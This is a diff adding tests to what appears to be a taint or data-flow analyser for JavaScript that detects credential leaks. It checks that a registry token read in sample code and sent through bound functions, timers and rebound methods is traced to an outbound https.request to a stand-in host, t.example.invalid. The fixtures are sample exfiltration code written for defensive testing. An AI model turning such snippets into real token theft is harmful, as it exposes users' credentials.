@@ -52,6 +52,23 @@ describe("timers pass their extra arguments to the callback", () => {
   });
 });
 
+describe("bound functions keep their bound this and arguments", () => {
+  const SEND = "function send(d) { https.request('https://t.example.invalid/x').end(d); }\n";
+  it.each([
+    ["called at once", `send.bind(null, ${READ})();`],
+    ["handed to a timer", `setTimeout(send.bind(null, ${READ}));`],
+    ["bound twice", `send.bind(null).bind(undefined, ${READ})();`],
+  ])("a pre-bound argument, %s", async (_name, code) => {
+    expect(await flowsOf(SEND + code)).toEqual(["registry-token -> http https://t.example.invalid/x (import)"]);
+  });
+
+  it("the bound this names the destination; calling through another receiver does not change it", async () => {
+    const code = "const a = { u: 'https://t.example.invalid/x', go(d) { https.request(this.u).end(d); } };\n" +
+      `const b = { u: 'https://other.example.invalid/', go: a.go.bind(a) };\nb.go(${READ});`;
+    expect(await flowsOf(code)).toEqual(["registry-token -> http https://t.example.invalid/x (import)"]);
+  });
+});
+
 describe("modules reached through the loader's other doors", () => {
   it.each([
     ["module.constructor._load", "const f = module.constructor._load('fs');"],
